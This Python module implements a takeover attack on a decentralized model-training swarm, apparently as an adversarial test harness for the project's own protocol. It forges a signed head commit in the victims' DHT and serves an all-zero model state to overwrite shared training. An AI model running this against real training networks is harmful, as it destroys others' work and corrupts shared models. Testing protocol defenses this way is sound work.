"""DiLoCo takeover: a fresh identity claims the group's head is an all-zero state at 10^6.

Built from the collectives' own parts so that it speaks exactly what honest nodes speak:
``Transport`` (p2pd + DHT, bootstrapped from the victims' collective addresses),
``CommitBook.version`` (a correctly signed ``OuterVersion`` under ``<gid>/head`` and
``<gid>/commit/<step>``), ``OuterState`` (the zero state and its hash) and ``AllReduce``'s
state handler (serves that state to whoever asks for its hash). Kept in its own module:
if the commit format gains fields (lineage: parent hash, members), only ``_commit`` here
changes. The group is the public model's fingerprint, computed like any node does.
"""

from __future__ import annotations

import json
import os
import signal
import sys
import threading
import time
from typing import Any

import torch

from collectives.allreduce import AllReduce
from collectives.codec import get_codec
from collectives.config import OuterConfig, ScheduleConfig
from collectives.loop import group_id
from collectives.consistency import CommitBook
from collectives.state import OuterState
from collectives.transport import Transport
from protocol import Identity

__all__ = ["run_takeover", "zero_state"]


def public_model(data_dir: str) -> tuple[str, int]:
    """(fingerprint, parameter count) of the embedded model every node starts from."""
    from node.learner.config import PolicyConfig
    from node.learner.policy import load_policy

    policy = load_policy(PolicyConfig(model="embedded", device="cpu"), data_dir)
    return policy.fingerprint, sum(p.numel() for p in policy.model.parameters())


def zero_state(numel: int, step: int) -> OuterState:
    """θ = 0, momentum = 0, version as if ``step`` outer steps had been applied."""
    zeros = torch.zeros(numel, dtype=torch.float32)
    return OuterState(theta=zeros, momentum=zeros.clone(), applied=step)


def _commit(book: CommitBook, step: int, state_hash: str) -> bytes:
    """The signed head commit: a version made from a parent nobody holds."""
    return book.version(step, state_hash, parent="f" * 64, members=[book.identity.peer_id],
                        period=1)


def run_takeover(args: dict[str, Any]) -> dict[str, Any]:
    """Store the commit, keep re-storing it and serve the state until ``duration_s`` ends."""
    data_dir = args["data_dir"]
    os.makedirs(data_dir, exist_ok=True)
    group, numel = public_model(os.path.join(data_dir, "model"))
    step = int(args["step"])
    state = zero_state(numel, step)
    state_hash, state_bytes = state.hash(), state.to_bytes()
    me = Identity.generate()
    sys.stdout.write(json.dumps({"event": "loaded"}) + "\n")
    sys.stdout.flush()
    config = OuterConfig(swarm_id=args["swarm_id"],
                         schedule=ScheduleConfig(deadline_s=60.0, join_window_s=3.0))
    gid = group_id(group, config)  # the victims' namespace
    transport = Transport(config, identity=me, data_dir=data_dir,
                          initial_peers=list(args["collective"]))
    served: list[str] = []

    def provide(wanted: str) -> bytes | None:
        served.append(time.strftime("%H:%M:%S"))
        return state_bytes if wanted == state_hash else None

    stop = threading.Event()
    for s in (signal.SIGTERM, signal.SIGINT):
        signal.signal(s, lambda *_: stop.set())
    stored = 0
    try:
        handler = AllReduce(transport.p2p, config, get_codec(config.compression),
                            peer_id=me.peer_id, gid=gid, state_provider=provide)
        transport.run(handler.start(), 10)
        book = CommitBook(identity=me, group=group, gid=gid, swarm_id=config.swarm_id)
        data = _commit(book, step, state_hash)
        sys.stdout.write(json.dumps({"event": "ready", "peer_ids": [me.peer_id],
                                     "state_hash": state_hash}) + "\n")
        sys.stdout.flush()
        deadline = time.monotonic() + float(args["duration_s"])
        while not stop.is_set() and time.monotonic() < deadline:
            # the victims' collectives start after their first round: keep knocking
            transport.run(transport.connect(list(args["collective"])), 10)
            transport.add_dht_peers(list(args["collective"]), timeout=5.0)
            for key in (book.head_key, book.key(step)):
                stored += transport.dht_store(key, me.peer_id, data, ttl=3600, timeout=5.0)
            stop.wait(float(args["restore_every_s"]))
    finally:
        transport.close()
    return {"peer_ids": [me.peer_id], "group": group, "state_hash": state_hash, "step": step,
            "sent": {"stores": stored, "served": len(served)}}
